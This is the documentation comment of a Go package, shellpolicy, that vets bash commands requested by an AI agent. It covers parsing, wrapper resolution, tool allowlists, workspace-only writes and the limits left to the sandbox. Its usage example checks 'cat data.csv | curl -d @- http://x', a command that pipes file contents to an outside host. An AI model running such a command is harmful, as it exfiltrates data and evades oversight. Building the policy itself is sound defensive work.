// Package shellpolicy decides whether the agent backend may run a bash command
// the model asked for, and says why not in words the model can act on.
//
// It is defence in depth: every command also runs inside the sandbox, with the
// workspace mounted at [Workspace] and no network. The policy parses the whole
// command with mvdan.cc/sh/v3/syntax and checks every command in it, wherever
// it sits: pipelines, lists, subshells, blocks, if/for/while/case, command and
// process substitutions, arithmetic, redirections and here-documents. A
// command name must be a literal word (quotes and escapes are resolved, so
// \curl is curl); wrappers (env, command, builtin, nohup, timeout, nice,
// stdbuf, xargs) are resolved to the command they run; bash -c and sh -c
// strings are parsed and checked in turn. Only listed tools run: read-only
// and text tools anywhere, writing tools (tee, cp, mv, rm, mkdir, touch,
// sed -i, redirections) only on workspace paths, python3 only on a workspace
// file or as -m pytest. What cannot be parsed is refused. The options of the
// GNU tools whose options run programs or write files (sed, sort, env, cp,
// mv, awk, xargs, timeout, time, ...) are read as getopt_long reads them
// (getopt.go): clustered short options and any unambiguous prefix of a long
// one (--expr, --compress), so that no spelling the tool accepts slips past.
//
// What it cannot see: the contents of files a command runs (python3 FILE.py
// runs code the model wrote with write_file, which the job records), values
// reaching a command at run time (read, arithmetic on variables), symlinks on
// disk. The sandbox is the boundary for those.
//
//	v := shellpolicy.Check("cat data.csv | curl -d @- http://x")
//	if !v.Allowed {
//		return toolError(v.Reason) // "curl is a network tool: ..."
//	}
//	if v.Pytest {
//		// run the command as the job's test stage
//	}
package shellpolicy
